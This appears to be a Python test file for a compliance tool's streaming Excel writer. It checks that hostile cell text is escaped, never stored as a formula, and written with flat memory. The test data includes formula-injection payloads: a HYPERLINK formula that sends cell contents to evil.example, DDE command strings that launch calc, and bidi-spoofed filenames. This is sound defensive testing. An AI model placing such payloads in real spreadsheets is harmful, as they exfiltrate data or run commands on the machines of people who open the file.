"""The streaming workbook writer: the same cell values openpyxl wrote before for hostile text,
the same look, and flat memory."""

from __future__ import annotations

import datetime
import io
import tracemalloc
from pathlib import Path

from openpyxl import Workbook, load_workbook

from compliance.reports.document import Column, Kpi, ReportDocument, Section, Table
from compliance.reports.xlsx import render_xlsx
from compliance.reviews.periods import parse_period
from compliance.spreadsheet import safe_cell
from compliance.xlsx_stream import DocumentProperties, Sheet, StreamingWorkbook

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1", "\n=1",
    "\x00=1", "  =indented", "\x07bell\x1b escape \x0b vt", "\u202eevil.exe\u202c and \u2067isolate\u2069",
    "<script>alert(1)</script>", "A & B < C > D \"quoted\" 'single'", "]]> cdata end", "emoji 🔑 and ümlaut",
    "x" * 10_000, " leading and trailing spaces ", "multi\nline\ntext", "DDE |cmd", "plain",
]
TYPED = [42, 3.25, True, None, datetime.datetime(2026, 1, 2, 3, 4, 5), datetime.date(2026, 3, 31)]


def _openpyxl_reference(rows: list[list[object]]) -> Workbook:
    """What the report workbooks were written with before: openpyxl write-only, safe_cell on every value."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Sheet")
    for row in rows:
        ws.append([safe_cell(v) for v in row])
    out = io.BytesIO()
    wb.save(out)
    return load_workbook(io.BytesIO(out.getvalue()))


def _streamed(rows: list[list[object]]) -> Workbook:
    out = io.BytesIO()
    with StreamingWorkbook(out) as wb:
        wb.write_sheet(Sheet(title="Sheet", widths=[20, 20]), ["Title", "Value"], rows[1:])
    return load_workbook(io.BytesIO(out.getvalue()))


def test_hostile_text_reads_back_with_the_same_values_as_openpyxl_wrote_and_never_as_a_formula() -> None:
    rows: list[list[object]] = [["Title", "Value"]]
    rows += [[text, typed] for text, typed in zip(HOSTILE, TYPED * 4, strict=False)]

    before = [[c.value for c in row] for row in _openpyxl_reference(rows).active.iter_rows()]
    after_ws = _streamed(rows).active
    after = [[c.value for c in row] for row in after_ws.iter_rows()]

    assert after == before
    assert all(c.data_type != "f" for row in after_ws.iter_rows() for c in row)
    assert after[1][0].startswith("'=HYPERLINK") and after[8][0] == "'=1"
    assert after[11][0] == "\u202eevil.exe\u202c and \u2067isolate\u2069"  # bidi kept as text; pages isolate it
    assert after[10][0] == "bell escape  vt"  # control characters XML forbids are dropped


def test_sheets_keep_the_look_header_style_widths_frozen_header_filter_and_print_setup() -> None:
    out = io.BytesIO()
    props = DocumentProperties(title="=Report", creator="OpenClaw", keywords="k", subject="s",
                               created=datetime.datetime(2026, 1, 1, 12, 0))
    with StreamingWorkbook(out, props) as wb:
        wb.write_sheet(Sheet(title="Open findings", widths=[22, 60], header_left="T && Co · 2026Q1"),
                       ["Kind", "First seen"], [["weak", datetime.datetime(2026, 1, 2, 3, 4)], ["orphaned", None]])
        wb.write_sheet(Sheet(title="It's second", widths=[10]), ["Only"], [])

    book = load_workbook(io.BytesIO(out.getvalue()))
    ws = book["Open findings"]
    header = ws["A1"]
    assert header.font.b and header.font.color.rgb.endswith("FFFFFF") and header.fill.fgColor.rgb.endswith("1E3A8A")
    assert header.alignment.wrap_text and header.alignment.vertical == "top"
    assert (ws.column_dimensions["A"].width, ws.column_dimensions["B"].width) == (22, 60)
    assert ws.freeze_panes == "A2" and ws.print_title_rows == "$1:$1" and ws.auto_filter.ref == "A1:B3"
    assert ws.page_setup.orientation == "landscape" and (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
    assert ws.sheet_properties.pageSetUpPr.fitToPage and int(ws.page_setup.paperSize) == 9
    assert ws.oddHeader.left.text == "T && Co · 2026Q1" and ws.oddFooter.right.text == "Page &P of &N"
    assert ws["B2"].is_date and ws["B2"].value == datetime.datetime(2026, 1, 2, 3, 4) and ws["B3"].value is None
    assert book.sheetnames == ["Open findings", "It's second"] and book["It's second"].print_title_rows == "$1:$1"
    assert book.properties.title == "'=Report" and book.properties.creator == "OpenClaw"


def _document(rows: int) -> ReportDocument:
    period = parse_period("2026Q1")
    columns = [Column("Kind", width=22), Column("Finding", width=60), Column("First seen", "datetime", 18)]
    first = datetime.datetime(2026, 2, 1, tzinfo=datetime.UTC)

    def all_rows() -> object:
        return ((f"kind {n % 7}", f"=cmd|' /C calc'!A{n} finding {n} " + "y" * 80, first) for n in range(rows))

    table = Table(key="findings", title="Open findings", columns=columns, top=[], total=rows, all_rows=all_rows)  # type: ignore[arg-type]
    return ReportDocument(kind="hygiene", title="Vault hygiene", period=period, generated_at=first, generator="test",
                          accounts=["acme"], chain_head="abc",
                          sections=[Section(key="findings", title="Findings", intro="", kpis=[Kpi("Open", str(rows))], tables=[table])])


def test_the_report_workbook_streams_every_row_through_safe_cell_with_flat_memory(tmp_path: Path) -> None:
    peaks = {}
    for rows in (2_000, 20_000):
        tracemalloc.start()
        render_xlsx(_document(rows), tmp_path / f"{rows}.xlsx")
        peaks[rows] = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()

    ws = load_workbook(tmp_path / "20000.xlsx", read_only=True)["Open findings"]
    values = [row for row in ws.iter_rows(values_only=True)]
    assert len(values) == 20_001 and values[20_000][1].startswith("'=cmd|")
    # Ten times the rows, not ten times the memory: nothing is kept per row.
    assert peaks[20_000] < 2 * peaks[2_000] + 1_000_000, peaks
